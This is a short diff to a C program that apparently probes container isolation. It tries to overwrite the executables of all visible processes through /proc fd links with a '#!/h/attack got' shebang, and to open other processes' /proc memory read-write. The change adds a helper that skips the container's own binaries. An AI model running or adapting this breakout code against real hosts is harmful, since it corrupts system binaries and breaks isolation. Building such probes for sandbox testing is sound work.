@@ -80,6 +80,12 @@ static int write_below(char **args)
     return 0;
 }
 
+/* A container's own, or another's that shares its processes. */
+static int is_containers(const char *link)
+{
+    return strncmp(link, "/bin/", 5) == 0 || strncmp(link, "/h/", 3) == 0;
+}
+
 /* exe: for ever, the programs of all processes that can be seen, to be written to. */
 _Noreturn static int exe(char **args)
 {
@@ -104,8 +110,8 @@ _Noreturn static int exe(char **args)
             if (fd < 0)
                 continue;
             (void)!readlink(path, link, sizeof(link) - 1);
-            if (strncmp(link, "/bin/", 5) == 0 || strncmp(link, "/h/", 3) == 0) {
-                close(fd); /* our own */
+            if (is_containers(link)) {
+                close(fd);
                 continue;
             }
             if (n == 256)
@@ -124,7 +130,11 @@ _Noreturn static int exe(char **args)
             snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
             fd = open(path, O_WRONLY | O_CLOEXEC);
             if (fd >= 0) {
-                printf("WROTE %zd\n", write(fd, "#!/h/attack got\n", 16));
+                char link[512] = "";
+
+                (void)!readlink(path, link, sizeof(link) - 1);
+                if (!is_containers(link))
+                    printf("WROTE %zd %s\n", write(fd, "#!/h/attack got\n", 16), link);
                 close(fd);
             }
         }
@@ -170,7 +180,7 @@ _Noreturn static int enter(char **args)
                     printf("SAW %s\n", path);
             }
             snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
-            if (readlink(path, link, sizeof(link) - 1) > 0 && (strncmp(link, "/bin/", 5) == 0 || strncmp(link, "/h/", 3) == 0))
+            if (readlink(path, link, sizeof(link) - 1) > 0 && is_containers(link))
                 continue; /* the container's own already */
             snprintf(path, sizeof(path), "/proc/%s/mem", e->d_name);
             fd = open(path, O_RDWR);
